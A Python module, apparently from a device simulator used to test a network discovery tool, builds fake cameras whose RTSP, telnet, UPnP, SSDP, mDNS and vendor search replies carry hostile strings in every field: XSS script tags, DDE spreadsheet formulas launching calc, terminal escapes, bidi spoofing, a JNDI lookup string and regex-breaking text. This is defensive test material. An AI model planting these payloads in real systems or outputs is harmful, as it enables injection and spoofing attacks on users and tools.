"""Texts made to break a reader or a report, in every field of every protocol that a device can write text into."""

from __future__ import annotations

import json
import struct
from collections.abc import Callable, Sequence
from typing import Any, Final
from xml.sax.saxutils import escape

from simulator.datagrams import Answer, Question
from simulator.device import Device
from simulator.hostile.case import Case, OnTcp, OnUdp, Part, Shown, Talks
from simulator.hostile.discovery import GROUPS, LARGEST, MDNS, XM, asks
from simulator.hostile.documents import SSDP_PORT
from simulator.hostile.lies import dahua, sadp, web, wsd
from simulator.hostile.pouring import hear
from simulator.streams import Talk

SCRIPT: Final = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
FORMULA: Final = "=cmd|' /C calc'!A0"
AT_SIGN: Final = "@SUM(1+9)*cmd|' /C calc'!A0"
BIDI: Final = "\u202e\u200b\u2066gpj.exe\u2069\ufeff\u2028\u2029"
ESCAPE: Final = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f\r"

DESCRIPTION_PORT: Final = 49_152


def _udp(port: int, make: Callable[[Device], bytes]) -> OnUdp:
    def answer(question: Question, device: Device) -> Sequence[Answer]:
        return [Answer(make(device)[:LARGEST])] if asks(port, question.data) else ()

    return OnUdp(answer, port, GROUPS.get(port, ()))


def _rtsp(text: bytes, line: bytes) -> Talks:
    """Name itself in the head, and in the description of a stream."""

    async def converse(talk: Talk) -> None:
        while True:
            number = 2 if (await hear(talk)).startswith("DESCRIBE") else 1
            sdp = b"v=0\r\no=%s 1 1 IN IP4 0.0.0.0\r\ns=%s\r\ni=%s\r\n" % (line, line, text) if number == 2 else b""
            head = b"RTSP/1.0 200 OK\r\nCSeq: %d\r\nServer: %s\r\n" % (number, line)
            more = (
                b"Content-Type: application/sdp\r\nContent-Length: %d\r\n" % len(sdp) if sdp else b"Public: OPTIONS\r\n"
            )
            await talk.say(head + more + b"\r\n" + sdp)

    return converse


def _greets(text: bytes) -> Talks:
    async def converse(talk: Talk) -> None:
        await talk.say(text + b" login: ")
        await talk.read_any()

    return converse


def _describes(marked: bytes) -> Talks:
    """The description of UPnP with the text in every element."""
    names = (b"friendlyName", b"manufacturer", b"manufacturerURL", b"modelDescription", b"modelName", b"modelNumber",
             b"serialNumber", b"UDN", b"presentationURL")  # fmt: skip
    inner = b"".join(b"<%s>%s</%s>" % (name, marked, name) for name in names)
    page = b'<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>' + inner + b"</device></root>"

    async def converse(talk: Talk) -> None:
        await hear(talk)
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
        await talk.say(head % len(page) + page)

    return converse


def _ssdp(line: str) -> Callable[[Device], bytes]:
    return lambda device: (
        f"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nSERVER: {line}\r\n"
        f"LOCATION: http://{device.address}:{DESCRIPTION_PORT}/desc.xml\r\nST: upnp:rootdevice\r\n"
        f"USN: uuid:{line}::upnp:rootdevice\r\n\r\n"
    ).encode("utf-8", "replace")


def _xiongmai(quoted: str) -> Callable[[Device], bytes]:
    fields = ",".join(f'"{name}":"{quoted}"' for name in ("HostName", "SN", "Version", "BuildDate", "OtherFunction"))
    body = ('{"NetWork.NetCommon":{' + fields + '},"Ret":100}').encode() + b"\n\0"
    return lambda _: struct.pack("<BBHIIHHI", 255, 1, 0, 0, 0, 0, 1531, len(body)) + body


def _announces(raw: bytes) -> Callable[[Device], bytes]:
    """A service of multicast DNS whose instance, host and TXT are the text."""
    label = raw[:60] or b"x"

    def name(*labels: bytes) -> bytes:
        return b"".join(bytes([len(one)]) + one for one in labels) + b"\0"

    def record(owner: bytes, kind: int, data: bytes) -> bytes:
        return owner + struct.pack("!HHIH", kind, 0x8001, 120, len(data)) + data

    def make(device: Device) -> bytes:
        kind, host = name(b"_http", b"_tcp", b"local"), name(label, b"local")
        own = name(label, b"_http", b"_tcp", b"local")
        address = bytes(int(part) for part in device.address.split("."))
        texts = b"".join(bytes([len(one)]) + one for one in (b"model=" + raw[:200], raw[:200]) if one)
        parts = (
            record(kind, 12, own), record(own, 33, struct.pack("!HHH", 0, 0, 80) + host), record(own, 16, texts),
            record(host, 1, address),
        )  # fmt: skip
        return struct.pack("!HHHHHH", 0, 0x8400, 0, len(parts), 0, 0) + b"".join(parts)

    return make


def _searches(text: str, marked: str) -> tuple[dict[str, Any], ...]:
    """The searches of further makers, with as much of the text as their fields hold."""
    uniview = (
        '<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"'
        ' xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing"'
        ' xmlns:t="http://www.uniview.com/Ver10/Device/wsdl"><e:Body><t:UniviewProbeMatches><t:UniviewProbeMatch>'
        f"<a:EndpointReference><a:Address>{marked}</a:Address></a:EndpointReference><t:Types>x</t:Types>"
        f"<t:Scopes>onvif://www.onvif.org/name/{marked}</t:Scopes><t:XAddrs>http://{{ip}}/LAPI</t:XAddrs>"
        "</t:UniviewProbeMatch></t:UniviewProbeMatches></e:Body></e:Envelope>"
    )
    return (
        {"play": "tvt-search", "name": text, "model": text, "firmware": (1, 0, 0, 0), "build": 1, "type": 0,
         "channels": 4},
        {"play": "dvrip-search", "type": text, "model": text[:60], "name": text},
        {"play": "univiewprobe", "answer": uniview},
    )  # fmt: skip


def _everywhere(text: str) -> tuple[Part, ...]:
    """What is not in the services of an ordinary persona."""
    raw, line = text.encode(), " ".join(text.split())
    quoted = json.dumps(text)[1:-1]
    return (
        OnTcp(_rtsp(raw, line.encode()), (554,)),
        OnTcp(_greets(raw), (23,)),
        OnTcp(_describes(escape(text).encode()), (DESCRIPTION_PORT,)),
        _udp(SSDP_PORT, _ssdp(line)),
        _udp(XM, _xiongmai(quoted)),
        _udp(MDNS, _announces(raw)),
    )


def _named(name: str, does: str, text: str) -> Case:
    """A true answer of every search with the text in every field of it."""
    marked = escape(text)
    asked = {"HttpPort": "80", "CommandPort": "8000", "MAC": "{mac_dashed}", "IPv4Address": "{ip}"}
    fields = dict.fromkeys(
        ("DeviceType", "DeviceDescription", "DeviceSN", "SoftwareVersion", "DSPVersion", "OEMInfo"), marked
    )
    quoted = json.dumps(text)[1:-1]
    line = " ".join(text.split())
    return Case(
        name,
        "names",
        does,
        _everywhere(text),
        services=(
            sadp(**fields, **asked),
            dahua(
                **dict.fromkeys(("DeviceClass", "DeviceType", "SerialNo", "Version", "Vendor", "MachineName"), quoted)
            ),
            wsd(" ".join(f"onvif://www.onvif.org/{part}/{marked}" for part in ("name", "hardware", "location"))),
            web(text, f"Server: {line}", f'WWW-Authenticate: Basic realm="{line}"'),
            *_searches(text, marked),
        ),
        shown=Shown.SUSPECTED,
        why="it answers the searches of two makers: a conflict, and no maker is named",
    )


CASES: Final = (
    _named("names-script", "writes a script into every text it gives", SCRIPT),
    _named("names-formula", "writes a spreadsheet formula into every text it gives", FORMULA),
    _named("names-at-sign", "writes a formula that begins with an at sign into every text it gives", AT_SIGN),
    _named("names-plus", "writes a formula behind a tab and a plus sign into every text it gives", "\t+1+cmd|' /C'!A0"),
    _named("names-escapes", "writes terminal control characters into every text it gives", ESCAPE),
    _named("names-bidi", "writes invisible characters and reversed text into every text it gives", BIDI),
    _named("names-long", "writes 4,000 characters into every text it gives", "A" * 4_000),
    _named(
        "names-markup",
        "writes the mark-up of reports into every text it gives",
        "](http://10.66.1.250/) | ``` --> ]]> {{7*7}} ${jndi:ldap://10.66.1.250} %s%n",
    ),
    _named(
        "names-patterns",
        "writes texts made to break a search pattern",
        "a" * 300 + "!" + "DS-" * 300 + "0" * 300 + "(((((((((((((" + "\\\\\\\\[",
    ),
)
